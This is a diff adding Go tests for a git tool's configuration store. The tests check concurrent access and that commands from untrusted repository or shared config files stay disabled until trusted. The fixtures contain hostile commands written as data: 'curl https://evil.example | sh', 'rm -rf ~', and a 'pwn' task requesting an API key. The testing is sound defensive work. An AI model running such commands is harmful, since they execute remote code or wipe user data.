@@ -0,0 +1,231 @@
+package config
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+)
+
+func TestStoreConcurrentGetSet(t *testing.T) {
+	t.Parallel()
+	s, err := Load(Options{Home: t.TempDir(), Dir: t.TempDir(), Offline: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	before := s.Get()
+
+	// Run with -race: readers and writers of every layer at once.
+	var wg sync.WaitGroup
+	for i := range 8 {
+		wg.Add(3)
+		go func() {
+			defer wg.Done()
+			if err := s.Set("message.body_width", 60+i); err != nil {
+				t.Error(err)
+			}
+		}()
+		go func() {
+			defer wg.Done()
+			if err := s.SetIn(Repo, "spell.words", []string{fmt.Sprintf("word%d", i)}); err != nil {
+				t.Error(err)
+			}
+		}()
+		go func() {
+			defer wg.Done()
+			for range 20 {
+				if cfg := s.Get(); cfg.Message.BodyWidth == 0 {
+					t.Error("Get returned a configuration without its defaults")
+				}
+				_ = s.Origin("message.body_width")
+				_ = s.LayerPath(Repo)
+			}
+		}()
+	}
+	wg.Wait()
+
+	if before.Message.BodyWidth != DefaultBodyWidth {
+		t.Errorf("a Config handed out before the changes was changed: body width %d", before.Message.BodyWidth)
+	}
+	width := s.Get().Message.BodyWidth
+	if width < 60 || width >= 68 {
+		t.Errorf("body width %d after setting it, want one of the values set", width)
+	}
+
+	// Every change was saved whole: loading the files again gives the
+	// same settings.
+	again, err := Load(s.opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := again.Get().Message.BodyWidth; got != width {
+		t.Errorf("body width %d read back from the file, want %d", got, width)
+	}
+	if got, want := again.Get().Spell.Words, s.Get().Spell.Words; fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Errorf("spell words %v read back from the repository file, want %v", got, want)
+	}
+}
+
+func TestRepoCommandsNeedTrust(t *testing.T) {
+	home, dir := t.TempDir(), t.TempDir()
+	repoFile := filepath.Join(dir, RepoFile)
+	write := func(content string) {
+		t.Helper()
+		if err := os.WriteFile(repoFile, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	load := func() *Store {
+		t.Helper()
+		s, err := Load(Options{Home: home, Dir: dir, Offline: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return s
+	}
+	write(`spell:
+  words: [bgit]
+tasks:
+  pre_commit:
+    - name: pwn
+      run: id > out.txt
+      env: [OPENAI_API_KEY]
+message:
+  post_process:
+    - prefix: "[web] "
+    - command: ./scrub.sh
+`)
+
+	s := load()
+	cfg := s.Get()
+	if len(cfg.Tasks.PreCommit) != 0 {
+		t.Errorf("the task of an untrusted repo file is in effect: %+v", cfg.Tasks.PreCommit)
+	}
+	if want := []PostProcessor{{Prefix: "[web] "}}; !slices.Equal(cfg.Message.PostProcess, want) {
+		t.Errorf("post-processing %+v, want only the step that runs nothing", cfg.Message.PostProcess)
+	}
+	if !slices.Equal(cfg.Spell.Words, []string{"bgit"}) {
+		t.Errorf("spell words %v, want the repo file's other settings to apply", cfg.Spell.Words)
+	}
+	untrusted := s.Untrusted()
+	if len(untrusted) != 1 || untrusted[0].Source != repoFile ||
+		!slices.Equal(untrusted[0].Commands, []string{"id > out.txt", "./scrub.sh"}) {
+		t.Fatalf("Untrusted = %+v, want both commands of %s", untrusted, repoFile)
+	}
+
+	if _, err := s.Trust(); err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range []*Store{s, load()} {
+		if got := s.Get().Tasks.PreCommit; len(got) != 1 || got[0].Run != "id > out.txt" {
+			t.Errorf("tasks %+v once the repo file is trusted, want its task", got)
+		} else if len(got[0].Env) != 0 {
+			t.Errorf("the repo file passed %v to its task; only the global file may", got[0].Env)
+		}
+		if got := s.Untrusted(); len(got) != 0 {
+			t.Errorf("Untrusted = %+v once the repo file is trusted", got)
+		}
+	}
+
+	// Changes made with bgit keep the file trusted; any other change does
+	// not.
+	if err := s.SetIn(Repo, "spell.enabled", false); err != nil {
+		t.Fatal(err)
+	}
+	if got := load().Get().Tasks.PreCommit; len(got) != 1 {
+		t.Errorf("tasks %+v after bgit changed the trusted file, want its task", got)
+	}
+	data, err := os.ReadFile(repoFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(string(data) + "\n# changed\n")
+	if got := load().Get().Tasks.PreCommit; len(got) != 0 {
+		t.Errorf("the task of a repo file changed since it was trusted is in effect: %+v", got)
+	}
+}
+
+func TestExtendedCommandsNeedTrust(t *testing.T) {
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	const raw = "https://config.example.com/bgit/base.yaml"
+	source, err := parseExtends(raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cached, err := source.file()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(filepath.Dir(cached), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	base := "spell:\n  words: [acme]\ntasks:\n  pre_commit:\n    - run: curl https://evil.example | sh\n"
+	if err := os.WriteFile(cached, []byte(base), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	home := t.TempDir()
+	if err := os.WriteFile(filepath.Join(home, ".bgit.yaml"), []byte("extends: ["+raw+"]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	opts := Options{Home: home, Dir: t.TempDir(), Offline: true}
+
+	s, err := Load(opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := s.Get(); len(got.Tasks.PreCommit) != 0 || !slices.Equal(got.Spell.Words, []string{"acme"}) {
+		t.Errorf("tasks %+v and words %v, want the words but not the task of the untrusted file", got.Tasks.PreCommit, got.Spell.Words)
+	}
+	if got := s.Untrusted(); len(got) != 1 || got[0].Source != raw {
+		t.Fatalf("Untrusted = %+v, want %s", got, raw)
+	}
+	if _, err := s.Trust(); err != nil {
+		t.Fatal(err)
+	}
+	if got := s.Get().Tasks.PreCommit; len(got) != 1 {
+		t.Errorf("tasks %+v once the shared file is trusted, want its task", got)
+	}
+
+	// The shared file changed upstream after it was trusted.
+	if err := os.WriteFile(cached, []byte(base+"    - run: rm -rf ~\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if s, err = Load(opts); err != nil {
+		t.Fatal(err)
+	}
+	if got := s.Get().Tasks.PreCommit; len(got) != 0 {
+		t.Errorf("tasks %+v of a shared file changed since it was trusted", got)
+	}
+}
+
+func TestLoadRefusesStepsRunningNothing(t *testing.T) {
+	tests := []struct {
+		name string
+		file string
+		err  string
+	}{
+		{"task without run", "tasks:\n  pre_commit:\n    - name: lint\n      command: make lint\n", `tasks.pre_commit[0] "lint" has no run command`},
+		{"task with a blank run", "tasks:\n  pre_commit:\n    - run: make\n    - run: \"  \"\n", "tasks.pre_commit[1]"},
+		{"step setting nothing", "message:\n  post_process:\n    - with: x\n", "message.post_process[0] must set exactly one"},
+		{"step setting two", "message:\n  post_process:\n    - prefix: \"[x] \"\n    - prefix: \"[y] \"\n      command: cat\n", "message.post_process[1] must set exactly one"},
+		{"valid", "tasks:\n  pre_commit:\n    - run: make\nmessage:\n  post_process:\n    - replace: a\n      with: b\n    - command: cat\n", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			home := t.TempDir()
+			if err := os.WriteFile(filepath.Join(home, ".bgit.yaml"), []byte(tt.file), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			_, err := Load(Options{Home: home, Dir: t.TempDir(), Offline: true})
+			switch {
+			case tt.err == "" && err != nil:
+				t.Errorf("Load = %v, want no error", err)
+			case tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)):
+				t.Errorf("Load = %v, want an error with %q", err, tt.err)
+			}
+		})
+	}
+}